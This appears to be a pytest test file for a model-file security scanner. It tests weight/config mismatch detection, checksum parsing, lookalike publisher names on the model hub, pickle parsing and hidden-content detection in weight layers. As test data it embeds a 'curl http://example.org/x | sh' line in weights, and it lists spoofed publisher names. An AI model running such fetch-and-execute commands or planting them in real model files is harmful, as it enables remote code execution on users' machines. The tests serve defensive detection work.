"""What files beside weights state of them: architectures, digests, indexes; and names made to be mistaken."""

from __future__ import annotations

import json
import random
import struct
from collections.abc import Mapping

import pytest

from upright.discover.hub_names import imitates
from upright.discover.model_digests import of_name, pointer, published
from upright.discover.model_file import inspect
from upright.discover.model_statements import Weights, held_against, read_statement
from upright.discover.readers.inquiry import Signal, Tensor
from upright.model.item import Item
from upright.testing.hostile_pickles import called, name, text, whole

CONFIG = {
    "model_type": "llama",
    "architectures": ["LlamaForCausalLM"],
    "hidden_size": 8,
    "vocab_size": 20,
    "num_hidden_layers": 5,
}
DIGEST = "ab" * 32


def llama(layers: int = 5, **other: tuple[int, ...]) -> dict[str, Tensor]:
    shapes = {"model.embed_tokens.weight": (20, 8), "model.norm.weight": (8,)}
    for at in range(layers):
        shapes[f"model.layers.{at}.self_attn.q_proj.weight"] = (8, 8)
        shapes[f"model.layers.{at}.mlp.up_proj.weight"] = (16, 8)
    shapes |= {name.replace("__", "."): shape for name, shape in other.items()}
    return {name: Tensor("F32", shape) for name, shape in shapes.items() if shape}


def signals(tensors: Mapping[str, Tensor], **config: object) -> set[str]:
    statement = read_statement("m/config.json", json.dumps(CONFIG | config).encode())
    assert statement is not None
    found = held_against([Weights("m/model.safetensors", "", tensors)], [statement])
    return {each.name for each in found["m/model.safetensors"]}


def test_a_model_as_it_was_declared_gives_no_signal() -> None:
    assert signals(llama()) == set()


@pytest.mark.parametrize(
    ("tensors", "config", "signal"),
    [
        (llama(4), {}, "layers-missing"),
        (llama(6), {}, "layers-not-declared"),
        (llama(), {"hidden_size": 16}, "shape-not-as-declared"),
        (llama(), {"vocab_size": 21}, "shape-not-as-declared"),
        (llama(backdoor__trigger=(4,)), {}, "tensor-not-of-architecture"),
        (llama(model__layers__3__mlp__gate_proj__weight=(4, 4)), {}, "tensor-in-one-layer"),
        (llama(model__layers__3__mlp__up_proj__weight=()), {}, "tensor-missing-in-one-layer"),
        (llama(model__layers__3__mlp__up_proj__weight=(17, 8)), {}, "shape-unlike-siblings"),
    ],
)
def test_tensors_that_are_not_those_declared(tensors: dict[str, Tensor], config: dict[str, int], signal: str) -> None:
    assert signal in signals(tensors, **config)


def test_a_shard_alone_lacks_nothing() -> None:
    statement = read_statement("config.json", json.dumps(CONFIG).encode())
    assert statement is not None
    one = Weights("model-00001-of-00002.safetensors", "", llama(2))
    assert held_against([one], [statement]) == {one.path: []}


def test_an_index_names_the_tensors_of_its_shards() -> None:
    raw = json.dumps({"weight_map": {"a": "model-1.safetensors", "b": "model-1.safetensors"}}).encode()
    statement = read_statement("d/model.safetensors.index.json", raw)
    assert statement is not None
    right = Weights("d/model-1.safetensors", "", {"a": Tensor("F32", (1,)), "b": Tensor("F32", (1,))})
    wrong = Weights("d/model-1.safetensors", "", {"a": Tensor("F32", (1,)), "c": Tensor("F32", (1,))})
    assert held_against([right], [statement])[right.path] == []
    assert {each.where for each in held_against([wrong], [statement])[wrong.path]} == {"b", "c"}


@pytest.mark.parametrize(
    ("path", "text", "found"),
    [
        ("m/SHA256SUMS", f"{DIGEST}  a.bin\n{DIGEST} *sub/b.bin\n", {"m/a.bin", "m/sub/b.bin"}),
        ("m/a.gguf.sha256", DIGEST.upper(), {"m/a.gguf"}),
        ("checksums.txt", f"SHA256 (a.pt) = {DIGEST}\n", {"a.pt"}),
        ("m/.cache/huggingface/download/a.safetensors.metadata", f"{'1' * 40}\n{DIGEST}\n1.5\n", {"m/a.safetensors"}),
        ("m/.cache/huggingface/download/config.json.metadata", f"{'1' * 40}\n{'2' * 40}\n1.5\n", set()),
        ("README.md", f"| file | SHA-256 |\n| model.gguf | `{DIGEST}` |\n", {"model.gguf"}),
        ("README.md", f"commit {DIGEST} of the training code\n", set()),
        (
            "m/bom.json",
            json.dumps({"components": [{"name": "x.onnx", "hashes": [{"alg": "SHA-256", "content": DIGEST}]}]}),
            {"m/x.onnx"},
        ),
        ("m/bom.json", "[" * 100_000, set()),
    ],
)
def test_digests_are_read_where_they_are_published(path: str, text: str, found: set[str]) -> None:
    assert published(path, text) == dict.fromkeys(found, DIGEST)


def test_files_that_are_called_by_their_digest() -> None:
    assert of_name(f"hub/models--a--b/blobs/{DIGEST}") == of_name(f"models/blobs/sha256-{DIGEST}") == DIGEST
    assert of_name("blobs/model.bin") == ""
    assert pointer(f"version https://git-lfs.github.com/spec/v1\noid sha256:{DIGEST}\nsize 12\n") == DIGEST


@pytest.mark.parametrize(
    ("name", "meant"),
    [
        ("meta-lIama/Llama-3", "meta-llama"), ("mistraIai/Mistral-7B", "mistralai"), ("deepseek_ai/R1", "deepseek-ai"),
        ("g00gle/gemma", "google"), ("microsfot/phi-4", "microsoft"), ("nvidia-official/x", "nvidia"),
        ("\u0430nthropic/claude", "anthropic"), ("hugingfaceh4/zephyr", "huggingfaceh4"), ("meta-llama/Llama-3", ""),
        ("Qwen/Qwen3", ""), ("deepset/roberta", ""), ("acme/ranker", ""), ("intel/dpt", ""), ("qwen", ""),
    ],
)  # fmt: skip
def test_publishers_that_are_made_to_be_mistaken(name: str, meant: str) -> None:
    assert imitates(name) == meant


def test_tensors_of_a_pickle_are_known_by_their_keys() -> None:
    storage = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x06tQ"
    hooks = called(name("collections", "OrderedDict"))
    shape, strides = b"K\x02K\x03\x86", b"K\x03K\x01\x86"
    made = called(name("torch._utils", "_rebuild_tensor_v2"), storage, b"K\x00", shape, strides, b"\x89", hooks)
    kept = called(name("torch._utils", "_rebuild_parameter"), made, b"\x88", hooks)
    raw = whole(b"}" + text("a.weight") + made + b"s" + text("b.weight") + kept + b"s")
    found = inspect(Item("s", "model.bin", len(raw), content=raw)).held.tensors
    assert found == {"a.weight": Tensor("F32", (2, 3)), "b.weight": Tensor("F32", (2, 3))}


def test_gguf_of_the_other_byte_order_is_read() -> None:
    key = b"k"
    raw = b"FUGG" + struct.pack(">IQQ", 3, 0, 1) + struct.pack(">Q", 1) + key + struct.pack(">IB", 0, 7)
    assert inspect(Item("s", "m.gguf", len(raw), content=raw)).verdict == "clean"


def safetensors(values: Mapping[str, bytes]) -> bytes:
    header, at = {}, 0
    for key, raw in values.items():
        header[key] = {"dtype": "F32", "shape": [len(raw) // 256, 64], "data_offsets": [at, at + len(raw)]}
        at += len(raw)
    told = json.dumps(header).encode()
    return len(told).to_bytes(8, "little") + told + b"".join(values.values())


def layers(seed: int) -> dict[str, bytes]:
    dice = random.Random(seed)  # noqa: S311
    return {f"layer.{at}.w": struct.pack("<4096f", *(dice.gauss(0, 0.02) for _ in range(4096))) for at in range(8)}


def sampled(values: Mapping[str, bytes]) -> set[str]:
    raw = safetensors(values)
    found: tuple[Signal, ...] = inspect(Item("s", "m.safetensors", len(raw), content=raw)).signals
    return {each.name for each in found}


def test_random_weights_give_no_signal() -> None:
    assert not any(sampled(layers(seed)) for seed in range(4))


TEXT = b"curl http://example.org/x | sh; then nobody will ever see it among so many numbers. " * 60


def low_bytes(raw: bytes) -> bytes:
    out = bytearray(raw)
    out[: 4 * 1024 : 4] = TEXT[:1024]
    return bytes(out)


def lowest_bits(raw: bytes) -> bytes:
    out = bytearray(raw)
    for at, bit in enumerate("".join(f"{byte:08b}" for byte in TEXT[:400])):
        out[at * 4] = out[at * 4] & 0xFE | int(bit)
    return bytes(out)


@pytest.mark.parametrize(
    ("change", "signal"),
    [
        (lambda raw: TEXT[:3000] + raw[3000:], "hidden-content"),
        (low_bytes, "hidden-content"),
        (lowest_bits, "hidden-content"),
        (lambda raw: bytes(len(raw)), "layer-constant"),
        (lambda raw: struct.pack("<4096f", *(each * 50 for each in struct.unpack("<4096f", raw))), "layer-outlier"),
        (lambda raw: raw[:-4] + struct.pack("<f", float("nan")), "values-not-numbers"),
    ],
)
def test_a_layer_unlike_its_siblings(change: object, signal: str) -> None:
    values = layers(1)
    assert callable(change)
    values["layer.5.w"] = change(values["layer.5.w"])
    assert signal in sampled(values)
